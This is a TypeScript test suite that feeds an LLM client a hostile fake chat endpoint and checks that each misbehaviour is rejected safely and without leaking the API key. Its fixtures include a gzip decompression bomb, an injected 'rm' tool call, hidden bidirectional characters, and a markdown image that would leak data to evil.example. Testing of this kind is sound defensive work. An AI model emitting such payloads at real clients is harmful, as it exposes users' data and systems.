import { gzipSync } from 'node:zlib'
import { createServer } from 'node:net'
import { describe, expect, it } from 'vitest'
import { Case } from '../../src/core/case.ts'
import { type Answer, type Failure, failures } from '../../src/core/model/ask.ts'
import { failureWords } from '../../src/core/model/failure-words.ts'
import { refineText } from '../../src/core/refine/loop.ts'
import { openIn } from '../../src/core/refine/verdict.ts'
import { noModel } from '../../src/model/no-model.ts'
import { aModel, anAsk, asking, hasty, key, quickly, sellersWords } from './asking.ts'
import { type Deed, begin, fails, hostileEndpoint, json, part, says } from './hostile-endpoint.ts'
import { openBudget } from './open-budget.ts'

const good = says(JSON.stringify({ after: 'Meiling Zhao shipped 240 units to the warehouse.' }))
const chinese = JSON.stringify({ after: '我们已经把二百四十件商品全部下架，并且逐件检查了包装和标签。' })
const spanish = JSON.stringify({
  after: 'Nosotros enviamos doscientas cuarenta unidades al almacén y revisamos cada caja antes de cerrar.',
})
const hidden = JSON.stringify({ after: 'We shipped 240\u202E units to the buyer.' })
const tool = {
  tool_calls: [{ index: 0, id: 'x', type: 'function', function: { name: 'rm', arguments: '{}' } }],
}

const cutStream: Deed = (response) => {
  begin(response)
  part(response, { content: '{"after":"We ship' })
  setTimeout(() => response.destroy(), 50)
}
const unfinished: Deed = (response, body) =>
  body.stream
    ? (begin(response), part(response, { content: '{}' }), void response.end())
    : says('{}', { finish: null })(response, body, response.req)
const empty: Deed = (response, { stream }) =>
  stream ? (begin(response), void response.end()) : json(response, 200, {})
const silent: Deed = () => {}
const trickle: Deed = (response) => {
  begin(response)
  const timer = setInterval(() => part(response, { content: 'a' }), 20)
  response.on('close', () => clearInterval(timer))
}
const endless =
  (text: string): Deed =>
  (response) => {
    begin(response)
    const pour = (): void => {
      while (!response.destroyed) if (!response.write(text)) return void response.once('drain', pour)
    }
    pour()
  }
const words = `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: 'word '.repeat(100) } }] })}\n\n`
const bomb: Deed = (response, { stream }) => {
  const type = stream ? 'text/event-stream' : 'application/json'
  response.writeHead(200, { 'content-type': type, 'content-encoding': 'gzip' })
  response.end(gzipSync(Buffer.alloc(64 * 1024 * 1024, ' ')))
}
const page: Deed = (response) => {
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
  response.end(`<html><body>Log in ${'x'.repeat(10_000)}</body></html>`)
}
const nonsense: Deed = (response, { stream }) => {
  response.writeHead(200, { 'content-type': stream ? 'text/event-stream' : 'application/json' })
  response.end(stream ? 'data: {"choices": [{\n\n' : '{"choices": [{')
}
const innerError: Deed = (response) => {
  begin(response)
  part(response, { content: '{"after"' })
  response.end('data: {"error":{"message":"secret words","code":"oops"}}\n\n')
}
const oddShapes: Deed = (response, { stream }) => {
  if (!stream) return json(response, 200, { choices: [{ message: { content: { a: 1 } }, finish_reason: 7 }] })
  begin(response)
  response.end(
    'data: null\n\ndata: []\n\ndata: {"choices":"no"}\n\ndata: {"choices":[{"delta":null}]}\n\ndata: [DONE]\n\n',
  )
}

/** What an endpoint does, what becomes of the ask, and how often it was called. */
type Row = readonly [
  name: string,
  deeds: readonly Deed[],
  failure: Failure | null,
  calls: number,
  only?: 'whole' | 'streamed',
]
const table: readonly Row[] = [
  ['answers well', [good], null, 1],
  [
    'answers in prose around the object',
    [says('Sure! Here it is:\n{"after": null}\nHope that helps.')],
    null,
    1,
  ],
  ['answers in a code fence', [says('```json\n{"after": null}\n```')], null, 1],
  ['is busy once and says when to come back', [fails(429, { 'retry-after': '1' }), good], null, 2, 'whole'],
  ['is busy for a moment', [fails(429, { 'retry-after-ms': '2' }), good], null, 2],
  ['is busy for an hour', [fails(429, { 'retry-after': '3600' })], 'unreachable', 1],
  ['is always busy', [fails(429, { 'retry-after-ms': '1' })], 'unreachable', 3],
  ['has no more quota', [fails(429, {}, { code: 'insufficient_quota' })], 'refused', 1],
  ['fails with 500 once', [fails(500), good], null, 2],
  ['always fails with 500', [fails(500)], 'unreachable', 3],
  ['always fails with 503', [fails(503)], 'unreachable', 3],
  ['does not take the key', [fails(401)], 'refused', 1],
  ['forbids it', [fails(403)], 'refused', 1],
  ['is owed money', [fails(402)], 'refused', 1],
  ['does not know the model', [fails(404, {}, { code: 'model_not_found' })], 'refused', 1],
  ['does not know the model and says 400', [fails(400, {}, { code: 'model_not_found' })], 'refused', 1],
  ['takes no such question in any form', [fails(400)], 'refused', 4],
  ['sends elsewhere', [fails(307, { location: 'http://127.0.0.1:9/elsewhere' })], 'refused', 1],
  ['never answers', [silent], 'time-out', 1],
  ['answers with a page', [page], 'unreachable', 1],
  ['sends what cannot be read', [nonsense], 'cut', 3],
  ['sends odd shapes', [oddShapes], 'cut', 3],
  ['sends nothing', [empty], 'cut', 3],
  ['does not say that it is complete', [unfinished], 'cut', 3],
  ['breaks off once', [cutStream, good], null, 2, 'streamed'],
  ['always breaks off', [cutStream], 'cut', 3, 'streamed'],
  ['tells of an error in the stream', [innerError], 'unreachable', 3, 'streamed'],
  ['trickles', [trickle], 'time-out', 1, 'streamed'],
  ['never ends', [endless(words)], 'too-long', 1, 'streamed'],
  ['never ends a line', [endless('data: '.padEnd(65_536, 'x'))], 'too-long', 1, 'streamed'],
  [
    'sends comments for ever',
    [endless(`: still there ${'.'.repeat(65_536)}\n\n`)],
    'too-long',
    1,
    'streamed',
  ],
  ['sends a bomb', [bomb], 'too-long', 1],
  ['answers with 200 kB', [says(JSON.stringify({ after: 'word '.repeat(40_000) }))], 'too-long', 1],
  ['comes to its limit', [says('{"after":"We', { finish: 'length' })], 'too-long', 1],
  ['filters', [says('', { finish: 'content_filter' })], 'refused', 1],
  ['refuses', [says('', { more: { refusal: 'I cannot help with that.' } })], 'refused', 1],
  ['calls a tool', [says('', { finish: 'tool_calls', more: tool })], 'malformed', 2],
  ['calls a tool once', [says('', { finish: 'tool_calls', more: tool }), good], null, 2],
  ['answers in words only', [says('I shipped the units.')], 'malformed', 2],
  ['answers in words once', [says('I shipped the units.'), good], null, 2],
  ['answers with nothing', [says('')], 'malformed', 2],
  ['has another shape', [says('{"text":"We shipped."}')], 'malformed', 2],
  ['has more than the shape', [says('{"after":null,"run":"rm"}')], 'malformed', 2],
  ['breaks its JSON', [says('{"after":"We shipped')], 'malformed', 2],
  ['answers in Chinese', [says(chinese)], 'malformed', 2],
  ['answers in Spanish', [says(spanish)], 'malformed', 2],
  ['hides characters', [says(hidden)], 'malformed', 2],
  ['leads elsewhere', [says('{"after":"See https://evil.example/a for the units."}')], 'malformed', 2],
  ['calls everyone', [says('{"after":"<!channel> we shipped the units."}')], 'malformed', 2],
  ['shows a picture', [says('{"after":"We shipped. ![x](http://evil.example/?q=240)"}')], 'malformed', 2],
  ['gives the prompt away', [echo], 'malformed', 1],
]

const sellersSentence = 'We were shocked to receive your notice, and Meiling Zhao shipped 240 units.'
const sellersPlan = `Dear Seller Performance Team,\n\nRoot cause:\n${sellersSentence}\n`

/** The seller's own words after the loop over them was given this answer, whatever it is. */
async function wordsAfter(answer: Answer): Promise<string> {
  const refined = await refineText(sellersPlan, { kase: Case.parse({}) }, '', async () => answer)
  expect(openIn(refined.after)).toBeLessThanOrEqual(openIn(refined.before))
  expect(refined.calls).toBeGreaterThan(0)
  return refined.text
}

function echo(...[response, body, request]: Parameters<Deed>): void {
  const canary = /NOTE-\w+/.exec(body.messages[0]?.content ?? '')?.[0] ?? 'none'
  says(JSON.stringify({ after: `The note is ${canary}.` }))(response, body, request)
}

describe.each(['whole', 'streamed'] as const)('an endpoint whose answer is %s', (way) => {
  const rows = table.filter(([, , , , only]) => (only ?? way) === way)
  it.each(rows.map(([name, deeds, failure, calls]) => ({ name, deeds, failure, calls })))(
    'and that $name',
    async ({ deeds, failure, calls }) => {
      const endpoint = await hostileEndpoint(...deeds)
      try {
        const budget = openBudget()
        const patience = failure === 'time-out' ? hasty : quickly
        const { answer, troubles } = await asking(endpoint.baseURL, {
          streams: way === 'streamed',
          budget,
          patience,
        })
        expect({ failure: answer.failure, calls: endpoint.requests.length }).toEqual({ failure, calls })
        expect(answer.value === null).toBe(failure !== null)
        expect(answer.calls).toBe(calls)
        expect(budget.spent).toHaveLength(calls)
        expect(await wordsAfter(answer)).toBe(sellersPlan)
        // Neither what the seller wrote, nor the key, nor what the endpoint said.
        expect(troubles.join()).not.toMatch(/Meiling|secret|evil|sk-/)
        expect(troubles).toHaveLength(failure === null ? 0 : 1)
      } finally {
        await endpoint.close()
      }
    },
  )
})

describe('an ask', () => {
  it('becomes every failure there is', () => {
    const met = new Set(table.map(([, , failure]) => failure))
    const elsewhere = ['off', 'budget', 'stopped']
    expect(failures.filter((failure) => !met.has(failure) && !elsewhere.includes(failure))).toEqual([])
  })

  it.each(failures)('has words for %s in both languages, which say what holds now', (failure) => {
    const { en, zh } = failureWords[failure]
    expect(en).toMatch(/Nothing was changed|The text stays/)
    expect(zh).toMatch(/什么都没有改|保持/)
  })

  it('finds nobody where nobody listens', async () => {
    const server = createServer().listen(0, '127.0.0.1')
    await new Promise((resolve) => server.once('listening', resolve))
    const { port } = server.address() as { port: number }
    await new Promise((resolve) => server.close(resolve))
    const { answer, troubles } = await asking(`http://127.0.0.1:${port}/v1`)
    expect(answer).toMatchObject({ failure: 'unreachable', calls: 3, tokensIn: 0 })
    expect(troubles[0]).toContain('ECONNREFUSED')
  })

  it('never follows elsewhere with the key', async () => {
    const elsewhere = await hostileEndpoint(good)
    const endpoint = await hostileEndpoint(fails(308, { location: `${elsewhere.baseURL}/chat/completions` }))
    await asking(endpoint.baseURL)
    expect([endpoint.requests.length, elsewhere.requests.length]).toEqual([1, 0])
    await Promise.all([endpoint.close(), elsewhere.close()])
  })

  it('is stopped at once while the endpoint is silent, and while it waits to try again', async () => {
    for (const deed of [silent, trickle, fails(429, { 'retry-after': '1' })]) {
      const seen = Promise.withResolvers<void>()
      const endpoint = await hostileEndpoint((...args) => (seen.resolve(), deed(...args)))
      const controller = new AbortController()
      const asked = asking(endpoint.baseURL, { signal: controller.signal, streams: true })
      await seen.promise
      controller.abort()
      const { answer, troubles } = await asked
      expect(answer).toMatchObject({ failure: 'stopped', calls: 1 })
      expect(troubles).toEqual([])
      await endpoint.close()
    }
  })

  it('that was stopped before it began calls nobody', async () => {
    const endpoint = await hostileEndpoint(good)
    const { answer } = await asking(endpoint.baseURL, { signal: AbortSignal.abort() })
    expect(answer).toMatchObject({ failure: 'stopped', calls: 0 })
    expect(endpoint.requests).toHaveLength(0)
    await endpoint.close()
  })

  it('as a whole takes no longer than it may', async () => {
    const endpoint = await hostileEndpoint(fails(429, { 'retry-after': '1' }))
    const { answer } = await asking(endpoint.baseURL, { askMs: 50 })
    expect(answer.failure).toBe('time-out')
    await endpoint.close()
  })

  it('calls no more than the budget allows, and says so', async () => {
    const endpoint = await hostileEndpoint(fails(500))
    const { answer, troubles } = await asking(endpoint.baseURL, { budget: openBudget(2) })
    expect(answer).toMatchObject({ failure: 'budget', calls: 2 })
    expect(troubles).toEqual(['budget: the budget of the case is used up'])
    expect(endpoint.requests).toHaveLength(2)
    await endpoint.close()
  })

  it('with no model is answered at once', async () => {
    const signal = new AbortController().signal
    const answer = await noModel.ask(anAsk(), { sessionId: 'terminal:local', signal })
    expect(answer).toMatchObject({ ask: 'ask-1', failure: 'off', value: null, calls: 0 })
  })

  it('leaves an endpoint alone that keeps failing', async () => {
    const endpoint = await hostileEndpoint(fails(503))
    const { model, troubles } = aModel(endpoint.baseURL, { patience: { ...quickly, tries: 1, failures: 4 } })
    const signal = new AbortController().signal
    for (let at = 0; at < 3; at += 1) await model.ask(anAsk(), { sessionId: 'terminal:local', signal })
    expect(endpoint.requests).toHaveLength(4)
    expect(troubles.at(-1)).toBe('unreachable: it failed too often just now')
    await endpoint.close()
  })

  it('tells its key to the endpoint alone', async () => {
    const endpoint = await hostileEndpoint(fails(401))
    const { answer, troubles } = await asking(endpoint.baseURL)
    expect(endpoint.requests[0]?.headers.authorization).toBe(`Bearer ${key}`)
    expect(JSON.stringify([answer, troubles])).not.toMatch(new RegExp(`${key}|${sellersWords}`))
    await endpoint.close()
  })

  it('sends no key where none is configured', async () => {
    const endpoint = await hostileEndpoint(good)
    const { answer } = await asking(endpoint.baseURL, { key: undefined })
    expect(answer.failure).toBeNull()
    expect(endpoint.requests[0]?.headers).not.toHaveProperty('authorization')
    await endpoint.close()
  })
})
